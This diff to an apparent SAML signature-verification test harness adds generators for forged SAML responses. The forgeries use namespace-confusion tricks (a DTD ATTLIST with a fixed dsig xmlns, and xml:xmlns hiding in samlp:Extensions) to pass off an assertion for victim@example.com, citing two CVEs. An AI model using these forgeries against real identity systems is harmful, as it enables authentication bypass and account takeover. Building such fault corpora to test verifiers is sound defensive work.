@@ -1935,3 +1935,71 @@ def _xslt_dos(root: etree._Element, ctx: FaultContext) -> None:
 
 register(Fault("xslt-dos", "An XSLT Transform with an exponential recursive template (2^27 calls) in the Assertion signature",
                ("XML-09",), signing=_assertion_signed(), signed=_xslt_dos))
+
+
+# ============================================================================= namespace confusion (ruby-saml class)
+def _exc_digest(el: etree._Element, digest: str = "sha256") -> str:
+    """The enveloped-signature + exc-c14n digest of `el` as a verifier would compute it."""
+    import base64
+    import hashlib
+
+    c = copy.deepcopy(el)
+    _drop_sig(c)
+    data = etree.tostring(c, method="c14n", exclusive=True, with_comments=False)
+    return base64.b64encode(hashlib.new(digest.replace("-", ""), data).digest()).decode()
+
+
+def _forge_in_place(root: etree._Element, ctx: FaultContext, victim: str | None) -> etree._Element:
+    """Victimize the signed Assertion and fix its DigestValue to the forged content (SignatureValue now stale);
+    return a deep copy of the original, genuine Signature."""
+    a = _assertion(root)
+    genuine = copy.deepcopy(_asig(root))
+    _victimize(a, victim)
+    for dv in _iter_tag(_asig(root), q(DS, "DigestValue")):
+        dv.text = _exc_digest(a, ctx.signing.digest)
+    return genuine
+
+
+def _strip_ns(el: etree._Element) -> etree._Element:
+    out = etree.Element(etree.QName(el).localname, {k: v for k, v in el.attrib.items()})
+    out.text, out.tail = el.text, el.tail
+    for c in el:
+        if isinstance(c.tag, str):
+            out.append(_strip_ns(c))
+    return out
+
+
+@register_factory("attlist-namespace-confusion",
+                  "DTD ATTLIST giving 'Signature' a #FIXED dsig xmlns; a namespace-less copy of the genuine Signature in "
+                  "samlp:StatusDetail; the Assertion forged (victim) with its DigestValue recomputed; a U+0080 namespace",
+                  ("PDF-02", "CVE-2025-25292"), victim="victim@example.com")
+def _attlist(victim: str) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        genuine = _forge_in_place(root, ctx, victim)
+        status = root.find(q(SAMLP, "Status"))
+        detail = etree.SubElement(status, q(SAMLP, "StatusDetail"))
+        detail.append(_strip_ns(genuine))
+
+    def b(xml: bytes, ctx: FaultContext) -> bytes:
+        xml = xml.replace(b"<saml:Assertion ", '<saml:Assertion xmlns:example="http://example.com\u0080" '.encode(), 1)
+        return _doctype(xml, b'<!DOCTYPE samlp:Response [<!ATTLIST Signature xmlns CDATA #FIXED '
+                             b'"http://www.w3.org/2000/09/xmldsig#" xmlns CDATA "block">]>')
+
+    return Fault("", "", signing=_assertion_signed(), signed=signed, bytes_=b)
+
+
+@register_factory("xml-xmlns-confusion",
+                  "The genuine Assertion Signature hidden in samlp:Extensions under <Parent xmlns=dsig><Child xml:xmlns=\"#other\">; "
+                  "the Assertion forged (victim) keeping a fake Signature with a recomputed DigestValue",
+                  ("PDF-03", "PDF-12", "CVE-2025-66567"), victim="victim@example.com")
+def _xml_xmlns(victim: str) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        genuine = _forge_in_place(root, ctx, victim)
+        ext = etree.Element(q(SAMLP, "Extensions"))
+        parent = etree.SubElement(ext, q(DS, "Parent"), nsmap={None: DS})
+        child = etree.SubElement(parent, q(DS, "Child"))
+        child.set("{http://www.w3.org/XML/1998/namespace}xmlns", "#other")
+        child.append(genuine)
+        root.find(q(SAML, "Issuer")).addnext(ext)
+
+    return Fault("", "", signing=_assertion_signed(), signed=signed)
